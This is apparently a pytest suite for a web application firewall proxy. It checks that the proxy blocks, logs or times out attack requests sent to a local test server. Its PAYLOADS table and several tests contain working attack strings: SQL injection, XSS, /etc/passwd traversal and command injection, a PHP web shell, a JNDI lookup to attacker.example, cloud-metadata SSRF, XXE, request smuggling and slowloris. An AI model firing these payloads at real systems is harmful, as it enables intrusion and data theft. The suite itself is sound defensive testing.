"""The sidecar as a real proxy on 127.0.0.1 in front of a real upstream on 127.0.0.1."""

from __future__ import annotations

import json
import socket
import time
import urllib.parse

import httpx
import pytest

PAYLOADS = {
    "sqli": "1' OR '1'='1' --",
    "xss": "<script>alert(document.cookie)</script>",
    "lfi": "../../../../etc/passwd",
    "rfi": "http://203.0.113.9/shell.txt?",
    "rce": "; cat /etc/passwd",
    "php": "<?php system($_GET['c']); ?>",
    "java": "java.lang.Runtime.getRuntime().exec('id')",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
    "ldap": "*)(uid=*))(|(uid=*",
    "ssti": "{{7*7}}{{config.items()}}",
    "crlf": "en%0d%0aSet-Cookie:%20admin=1",
}
LOCATIONS = ("query", "path", "header", "cookie", "json", "form", "multipart")
PATH_CATEGORIES = {"sqli", "xss", "lfi", "jndi"}


def _cases():
    for cat in PAYLOADS:
        for loc in LOCATIONS:
            if loc == "path" and cat not in PATH_CATEGORIES:
                continue
            if loc == "header" and cat == "rfi":
                continue
            yield cat, loc


def send_with_payload(client: httpx.Client, base: str, loc: str, payload: str) -> httpx.Response:
    q = urllib.parse.quote(payload, safe="")
    if loc == "query":
        return client.get(f"{base}/search?q={q}")
    if loc == "path":
        return client.get(f"{base}/items/{q}")
    if loc == "header":
        return client.get(f"{base}/", headers={"X-Note": payload})
    if loc == "cookie":
        return client.get(f"{base}/", headers={"Cookie": f"pref={q}"})
    if loc == "json":
        return client.post(f"{base}/api", json={"user": {"comment": payload}})
    if loc == "form":
        return client.post(f"{base}/form", data={"comment": payload})
    if loc == "multipart":
        return client.post(f"{base}/upload", files={"comment": (None, payload), "f": ("a.txt", b"hello")})
    raise AssertionError(loc)


@pytest.fixture(scope="module")
def client():
    with httpx.Client(timeout=10) as c:
        yield c


@pytest.mark.parametrize(("category", "location"), list(_cases()))
def test_attack_is_blocked_in_every_location(proxy, client, category, location):
    base, _ = proxy
    payload = PAYLOADS[category]
    if category == "crlf" and location not in ("query", "path", "cookie", "form"):
        payload = urllib.parse.unquote(payload) if location in ("json", "multipart") else payload
    r = send_with_payload(client, base, location, payload)
    assert r.status_code == 403, r.text
    body = r.json()
    assert category in body["categories"]
    assert len(body["request_id"]) == 32 and r.headers["x-request-id"] == body["request_id"]


def test_nosql_operator_in_json_and_query_is_blocked(proxy, client):
    base, _ = proxy
    r = client.post(f"{base}/login", json={"user": "admin", "password": {"$ne": None}})
    assert r.status_code == 403 and "nosql" in r.json()["categories"]
    r = client.get(f"{base}/login?user=admin&password[$ne]=x")
    assert r.status_code == 403 and "nosql" in r.json()["categories"]


def test_xxe_in_xml_body_is_blocked(proxy, client):
    base, _ = proxy
    xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    r = client.post(f"{base}/soap", content=xml, headers={"Content-Type": "application/xml"})
    assert r.status_code == 403 and "xxe" in r.json()["categories"]


def test_scanner_user_agent_is_blocked(proxy, client):
    base, _ = proxy
    r = client.get(f"{base}/", headers={"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"})
    assert r.status_code == 403 and "scanner" in r.json()["categories"]


def _raw(base: str, data: bytes, read_timeout: float = 5.0) -> bytes:
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=read_timeout) as s:
        s.sendall(data)
        chunks = []
        try:
            while True:
                b = s.recv(65536)
                if not b:
                    break
                chunks.append(b)
                if b"\r\n\r\n" in b"".join(chunks):
                    break
        except TimeoutError:
            pass
    return b"".join(chunks)


def test_request_smuggling_cl_te_is_blocked(proxy):
    base, _ = proxy
    req = (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
    out = _raw(base, req)
    # the server either refuses the framing outright (400) or the WAF blocks it (403); never forwarded
    assert out.split(b" ", 2)[1] in (b"400", b"403"), out[:200]


def test_clean_request_is_forwarded_with_proxy_headers(proxy, client):
    base, _ = proxy
    r = client.get(
        f"{base}/products/42?sort=price&q=O%27Brien",
        headers={"Connection": "keep-alive, X-Hop", "X-Hop": "secret", "Keep-Alive": "timeout=5",
                 "X-Forwarded-For": "198.51.100.7"},
    )  # fmt: skip
    assert r.status_code == 200
    echo = r.json()
    hdrs = {k: v for k, v in echo["headers"]}
    assert echo["raw_path"] == "/products/42" and echo["query"] == "sort=price&q=O%27Brien"
    assert "x-hop" not in hdrs and "keep-alive" not in hdrs
    assert hdrs["x-forwarded-for"] == "198.51.100.7, 127.0.0.1"
    assert hdrs["x-forwarded-proto"] == "http"
    assert len(hdrs["x-request-id"]) == 32
    # hop-by-hop headers of the upstream's response are not passed back either
    assert "keep-alive" not in r.headers and r.headers["x-upstream"] == "1"


def test_post_body_reaches_upstream_intact(proxy, client):
    base, _ = proxy
    body = json.dumps({"name": "Zoë", "bio": "I like SQL tables and <b>bold</b> text"}).encode()
    r = client.post(f"{base}/api/users", content=body, headers={"Content-Type": "application/json"})
    assert r.status_code == 200
    import hashlib

    assert r.json()["body_sha256"] == hashlib.sha256(body).hexdigest()


def test_large_response_is_streamed_back_whole(proxy, client):
    base, _ = proxy
    r = client.get(f"{base}/big")
    assert r.status_code == 200 and len(r.content) == 64 * 65536


def test_upstream_500_passes_through_unchanged(proxy, client):
    base, _ = proxy
    r = client.get(f"{base}/status500")
    assert r.status_code == 500 and r.text == "app error"


def test_detect_mode_passes_attacks_and_logs_them(sidecar_factory, client):
    base, sc = sidecar_factory(mode="detect")
    r = client.get(f"{base}/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert r.status_code == 200 and r.json()["path"] == "/search"
    records = [json.loads(line) for line in open(sc.settings.audit_log, encoding="utf-8")]
    assert records[-1]["action"] == "detect" and "xss" in records[-1]["categories"]
    assert records[-1]["request_id"] == r.headers["x-request-id"]


def test_block_is_written_to_the_audit_log(proxy, client):
    base, sc = proxy
    r = client.get(f"{base}/?file=../../etc/passwd")
    assert r.status_code == 403
    rid = r.json()["request_id"]
    records = [json.loads(line) for line in open(sc.settings.audit_log, encoding="utf-8")]
    rec = next(x for x in records if x["request_id"] == rid)
    assert rec["action"] == "block" and rec["status"] == 403
    assert any(m["location"] == "query:file" and m["category"] == "lfi" for m in rec["matches"])


def test_upstream_down_gives_502(sidecar_factory, client):
    from tests.waf.conftest import free_port

    base, _ = sidecar_factory(upstream=f"http://127.0.0.1:{free_port()}")
    r = client.get(f"{base}/")
    assert r.status_code == 502 and "request_id" in r.json()


def test_upstream_too_slow_gives_504(proxy, client):
    base, _ = proxy
    r = client.get(f"{base}/slow")
    assert r.status_code == 504 and r.json()["error"] == "upstream timed out"


def test_upstream_dying_mid_response_truncates_and_proxy_stays_up(proxy, client):
    base, sc = proxy
    with pytest.raises(httpx.HTTPError):
        client.get(f"{base}/die")
    assert client.get(f"{base}/after-die").status_code == 200
    m = client.get(f"http://{sc.settings.metrics_listen}/metrics").text
    assert 'netguard_waf_upstream_errors_total{kind="mid_response"}' in m


def test_oversized_body_is_refused_when_configured_to_block(sidecar_factory, client):
    base, _ = sidecar_factory(body_limit=1024, over_limit="block")
    r = client.post(f"{base}/upload", content=b"a" * 5000, headers={"Content-Type": "application/octet-stream"})
    assert r.status_code == 413
    assert client.post(f"{base}/upload", content=b"a" * 1000).status_code == 200


def test_oversized_body_passes_uninspected_when_configured_to_pass(sidecar_factory, client):
    base, _ = sidecar_factory(body_limit=1024, over_limit="pass")
    body = b"a" * 200_000 + b"<script>alert(1)</script>"
    r = client.post(f"{base}/upload", content=body, headers={"Content-Type": "text/plain"})
    assert r.status_code == 200 and r.json()["body_len"] == len(body)
    # an attack inside the inspected window is still blocked
    r = client.post(f"{base}/upload", content=b"<script>alert(1)</script>" + b"a" * 5000,
                    headers={"Content-Type": "text/plain"})  # fmt: skip
    assert r.status_code == 403


def test_chunked_upload_over_window_is_streamed_in_pass_mode(sidecar_factory, client):
    base, _ = sidecar_factory(body_limit=1024, over_limit="pass")

    def gen():
        for _ in range(50):
            yield b"b" * 1000

    r = client.post(f"{base}/upload", content=gen(), headers={"Content-Type": "text/plain"})
    assert r.status_code == 200 and r.json()["body_len"] == 50_000


def test_slowloris_head_is_cut_off_and_others_are_served(proxy, client):
    base, _ = proxy
    host, port = base.removeprefix("http://").split(":")
    slow = socket.create_connection((host, int(port)), timeout=10)
    try:
        slow.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")  # head never finishes
        t0 = time.monotonic()
        assert client.get(f"{base}/meanwhile").status_code == 200
        slow.sendall(b"X-a: b\r\n")
        data = slow.recv(1024)  # the proxy closes the connection (client_header_timeout = 1 s)
        assert data == b"" or b"408" in data
        assert time.monotonic() - t0 < 9
    finally:
        slow.close()


def test_slow_body_gets_408(proxy):
    base, _ = proxy
    out = _raw(base, b"POST /form HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nonly-part", read_timeout=8)
    assert out.startswith(b"HTTP/1.1 408"), out[:100]


def test_healthz_and_metrics(proxy, client):
    base, sc = proxy
    assert client.get(f"{base}/healthz").json() == {"status": "ok"}
    mbase = f"http://{sc.settings.metrics_listen}"
    assert client.get(f"{mbase}/healthz").status_code == 200
    client.get(f"{base}/?q=%3Cscript%3Ealert(1)%3C/script%3E")
    text = client.get(f"{mbase}/metrics").text
    assert 'netguard_waf_requests_total{action="blocked"}' in text
    assert 'netguard_waf_blocks_total{category="xss",mode="block"}' in text
    assert "netguard_waf_request_duration_seconds_bucket" in text
